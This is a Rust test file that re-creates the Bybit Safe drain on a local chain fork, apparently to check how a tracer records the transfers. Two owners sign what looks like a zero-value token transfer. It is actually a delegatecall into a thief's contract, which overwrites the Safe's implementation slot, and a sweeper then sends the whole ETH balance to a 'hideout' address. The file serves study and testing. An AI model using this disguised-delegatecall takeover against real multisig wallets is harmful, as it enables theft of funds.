//! How Bybit's cold Safe was drained: its owners ran a stranger's contract as the Safe, which put other code behind it, and
//! that code sent everything out in a transaction whose own value was nothing.

use alloy::{primitives::Bytes, sol, sol_types::SolCall};

use crate::{
    anvil::Fork,
    code,
    contracts::Erc20,
    safes::{Order, TwoOwners},
    stage::{Stage, Told, milli, play},
    tx::Tx,
};

sol! {
    contract Sweeper {
        function sweepETH(address receiver) external;
    }
}

#[test]
fn a_safe_is_drained_by_delegatecall() {
    play("drain", Fork::Prague, tell);
}

fn tell(stage: &Stage) -> Told {
    let [first, second, thief] = ["first owner", "second owner", "thief"].map(|name| stage.person(name));
    let hideout = stage.stranger("hideout");
    let overwriter = stage.deploy("overwriter", thief, &code::creating(&code::overwriting_slot_0()), &[]);
    let sweeper = stage.deploy("sweeper", thief, &code::creating(&code::sweeping()), &[]);
    let safe = TwoOwners::create(stage, [first, second]);
    let from_height = stage.next_height();

    let funded = stage.done(&Tx::pay(first, safe.safe, milli(401_346)));
    // What the owners sign looks like a transfer of a token, of nothing.
    let data = Bytes::from(Erc20::transferCall { to: sweeper, amount: milli(0) }.abi_encode());
    safe.act(stage, &Order { to: overwriter, value: milli(0), data, delegate: true });
    // From now on the Safe is the thief's, whoever calls it.
    let swept = stage.done(&Tx::call(thief, safe.safe, &Sweeper::sweepETHCall { receiver: hideout }));
    assert_eq!(stage.balance(hideout), milli(401_346));
    let expected =
        vec![funded.native(first, safe.safe, milli(401_346)), swept.internal(safe.safe, hideout, milli(401_346))];
    Told { from_height, tokens: vec![], expected }
}
